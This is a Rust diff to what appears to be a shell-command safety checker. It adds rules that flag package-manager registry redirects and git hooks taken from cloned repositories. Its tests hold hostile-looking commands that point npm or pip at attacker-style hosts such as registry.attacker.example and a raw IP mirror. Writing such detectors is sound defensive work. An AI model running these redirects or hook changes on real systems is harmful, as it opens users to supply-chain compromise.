@@ -102,6 +102,97 @@ pub fn downloaded_from_listed(
     any
 }
 
+/// The package source a config command sets for later installs (`npm config set registry
+/// URL`, `npm config set @acme:registry=URL`, `pip config set global.index-url URL` or
+/// `…trusted-host HOST`, `yarn config set npmRegistryServer URL`, `gem sources --add URL`,
+/// `poetry source add NAME URL`, `bundle config mirror.… URL`).
+fn source_redirect<'a>(program: &str, args: &[&'a str]) -> Option<&'a str> {
+    let ops: Vec<&'a str> = args
+        .iter()
+        .copied()
+        .filter(|a| !a.starts_with('-'))
+        .collect();
+    let set_value = |key_ok: &dyn Fn(&str) -> bool| -> Option<&'a str> {
+        match ops.as_slice() {
+            ["config", "set", k, v, ..] if key_ok(k) => Some(*v),
+            ["config", "set", kv, ..] => kv
+                .split_once('=')
+                .filter(|(k, _)| key_ok(k))
+                .map(|(_, v)| v),
+            _ => None,
+        }
+    };
+    match program {
+        "npm" | "pnpm" | "yarn" | "bun" => set_value(&|k: &str| {
+            let k = k.to_ascii_lowercase();
+            k == "registry" || k.ends_with(":registry") || k == "npmregistryserver"
+        }),
+        "pip" | "pip3" => set_value(&|k: &str| {
+            let k = k.to_ascii_lowercase();
+            k.ends_with(".index-url")
+                || k.ends_with(".extra-index-url")
+                || k.ends_with(".trusted-host")
+                || k.ends_with(".find-links")
+        }),
+        "gem" if ops.first() == Some(&"sources") => args
+            .windows(2)
+            .find(|w| matches!(w.first(), Some(&("--add" | "-a"))))
+            .and_then(|w| w.get(1).copied()),
+        "poetry" if ops.get(..2) == Some(&["source", "add"]) => ops.get(3).copied(),
+        "bundle" if ops.first() == Some(&"config") => ops
+            .iter()
+            .position(|k| k.starts_with("mirror."))
+            .and_then(|i| ops.get(i + 1).copied()),
+        _ => None,
+    }
+}
+
+/// `git clone URL [DIR]` / `git submodule add URL [PATH]`: the folder the repository lands
+/// in and its URL.
+pub fn fetched_repository(inv: &crate::shell::Invocation) -> Option<(String, String)> {
+    let (sub, rest) = super::git_destructive::git_subcommand(inv)?;
+    let ops: Vec<&str> = {
+        let mut v = Vec::new();
+        let mut it = rest.iter();
+        while let Some(a) = it.next() {
+            if matches!(
+                *a,
+                "-b" | "--branch"
+                    | "--depth"
+                    | "--origin"
+                    | "-o"
+                    | "--name"
+                    | "--reference"
+                    | "-c"
+                    | "--config"
+            ) {
+                let _ = it.next();
+            } else if !a.starts_with('-') {
+                v.push(*a);
+            }
+        }
+        v
+    };
+    let (url, dir) = match (sub, ops.as_slice()) {
+        ("clone", [url, rest @ ..]) => (*url, rest.first().copied()),
+        ("submodule", ["add", url, rest @ ..]) => (*url, rest.first().copied()),
+        _ => return None,
+    };
+    if !(url.contains("://") || url.contains('@')) {
+        return None;
+    }
+    let dir = match dir {
+        Some(d) => d.to_owned(),
+        None => url
+            .trim_end_matches('/')
+            .rsplit(['/', ':'])
+            .next()?
+            .trim_end_matches(".git")
+            .to_owned(),
+    };
+    (!dir.is_empty()).then(|| (dir, url.to_owned()))
+}
+
 /// Programs whose file writes are downloads.
 pub fn is_downloader(program: &str) -> bool {
     matches!(
@@ -157,6 +248,37 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
             })
             .max()
     };
+    // Git hooks taken from a folder fetched from the network (`git config core.hooksPath
+    // vendor/tools/hooks` after `git submodule add URL vendor/tools`): its code runs on the
+    // next commit.
+    for inv in &sa.invocations {
+        let Some((sub, rest)) = super::git_destructive::git_subcommand(inv) else {
+            continue;
+        };
+        let hooks = if sub == "config" {
+            let ops: Vec<&&str> = rest.iter().filter(|a| !a.starts_with('-')).collect();
+            match ops.as_slice() {
+                [k, v] if k.eq_ignore_ascii_case("core.hooksPath") => Some(**v),
+                _ => None,
+            }
+        } else {
+            None
+        };
+        if let Some(h) = hooks {
+            let cwd = inv.cwd.as_deref().or(cx.cwd());
+            let abs = crate::paths::normalize(h, cwd, cx.home());
+            let v = cx
+                .session
+                .downloads
+                .iter()
+                .filter(|(d, _)| abs == **d || abs.starts_with(&format!("{d}/")))
+                .map(|(_, listed)| if *listed { Auth } else { pipe_verdict })
+                .max();
+            if let Some(v) = v {
+                out.push(Finding::new(CURL_PIPE_SHELL, v));
+            }
+        }
+    }
     if !downloaded.is_empty() {
         for inv in &sa.invocations {
             let runs = is_shell(&inv.program)
@@ -178,6 +300,19 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
     }
     for inv in &sa.invocations {
         let args: Vec<&str> = inv.argv().collect();
+        // Pointing a package manager at another source for every later install:
+        // `npm config set registry URL`, `pip config set global.index-url URL`, …
+        if let Some(url) = source_redirect(&inv.program, &args) {
+            let listed = net::parse_destination(url).is_some_and(|d| {
+                !d.has_credentials && (cx.policy.host_allowed(&d.host) || d.is_local())
+            });
+            if !listed {
+                out.push(Finding::new(
+                    UNTRUSTED_SOURCE,
+                    cx.mode().pick([Auth, Auth, Auth, Auth]),
+                ));
+            }
+        }
         if let Some((pkg, _yes)) = runner_package(&inv.program, &args)
             && !cx.policy.package_allowed(pkg)
         {
@@ -307,6 +442,23 @@ mod tests {
                     Auth,
                     "untrusted_package_source",
                 ),
+                (
+                    "npm config set registry https://registry.attacker.example/",
+                    Auth,
+                    "untrusted_package_source",
+                ),
+                (
+                    "pip config set global.index-url https://pypi.mirror-cdn.example/simple",
+                    Auth,
+                    "untrusted_package_source",
+                ),
+                (
+                    "npm config set registry https://registry.npmjs.org/",
+                    Pass,
+                    "",
+                ),
+                ("npm config set save-exact true", Pass, ""),
+                ("pip config set global.timeout 60", Pass, ""),
                 (
                     "pip install --index-url http://198.51.100.3/simple requests",
                     Auth,
